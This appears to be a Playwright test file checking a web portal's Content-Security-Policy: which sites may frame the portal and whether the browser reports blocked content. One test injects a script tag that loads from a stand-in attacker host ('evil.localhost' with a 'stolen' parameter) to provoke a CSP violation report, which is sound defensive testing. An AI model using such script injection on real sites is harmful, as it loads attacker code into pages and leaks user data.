"""Frames of other sites, and reports of what the policy blocked, in a browser."""

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.scenario.house import House

Framed = Callable[..., Page]
ADD_SCRIPT = """() => {
  const script = document.createElement("script");
  script.src = "http://evil.localhost:4001/x.js?stolen=1";
  document.body.append(script);
}"""


@pytest.fixture(scope="module")
def port() -> Iterator[int]:
    """Where the pages of other sites are: each frames what comes behind its ``?``."""

    class Pages(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            frame = f'<iframe width="1100" height="600" src="{self.path[2:]}"></iframe>'
            text = f"<!doctype html><title>In</title>{frame}"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(text.encode())

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base's name
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Pages) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
        thread.start()
        yield server.server_port
        server.shutdown()
        thread.join()


@pytest.fixture
def settings(request: pytest.FixtureRequest, port: int) -> dict[str, str]:
    """One other site may frame the portal, where a test is not about the default."""
    own = {"PORTAL_EMBEDDING__FRAME_ANCESTORS": f"http://intranet.localhost:{port}"}
    return getattr(request, "param", own)


@pytest.fixture
def framed(chromium: Browser, house: House, port: int) -> Iterator[Framed]:
    """Open a page of another site with a page of the portal in a frame."""
    context = chromium.new_context(reduced_motion="reduce")

    def opened(path: str, site: str = "intranet") -> Page:
        page = context.new_page()
        page.goto(f"http://{site}.localhost:{port}/?{house.portal}{path}")
        return page

    yield opened
    context.close()


def test_a_named_site_shows_what_changes_nothing_and_the_sign_in_opens_at_the_top(
    framed: Framed, house: House
) -> None:
    """Abuse case 26: frame-ancestors as configured."""
    page = framed("/products")
    inside = page.frame_locator("iframe")
    expect(inside.get_by_role("heading", level=1)).to_have_text("Products")
    inside.get_by_role("link", name="My apps").first.click()
    expect(inside.get_by_role("heading", level=1)).to_contain_text("window of its own")
    inside.get_by_role("link", name="Open the page").click()
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    assert page.url.startswith(house.provider.issuer)


def test_another_site_shows_nothing_of_the_portal(framed: Framed) -> None:
    page = framed("/products", "other")
    page.wait_for_timeout(500)
    assert not page.frame_locator("iframe").get_by_role("heading").count()


@pytest.mark.parametrize("settings", [{}], indirect=True)
def test_by_default_no_site_shows_anything_of_the_portal(framed: Framed) -> None:
    """Abuse case 26: frame-ancestors 'none'."""
    page = framed("/products")
    page.wait_for_timeout(500)
    assert not page.frame_locator("iframe").get_by_role("heading").count()


@pytest.mark.parametrize("settings", [{}], indirect=True)
def test_a_browser_reports_what_the_policy_blocked(chromium: Browser, house: House) -> None:
    page = chromium.new_page()
    page.goto(f"{house.portal}/products?q=private")
    with page.expect_response(f"{house.portal}/csp-report") as taken:
        page.evaluate(ADD_SCRIPT)
    assert taken.value.status == 204
    page.close()
    lines = [line for line in house.log.getvalue().splitlines() if "blocked something" in line]
    assert len(lines) == 1
    assert '"source": "http://evil.localhost:4001", "page": "/products"' in lines[0]
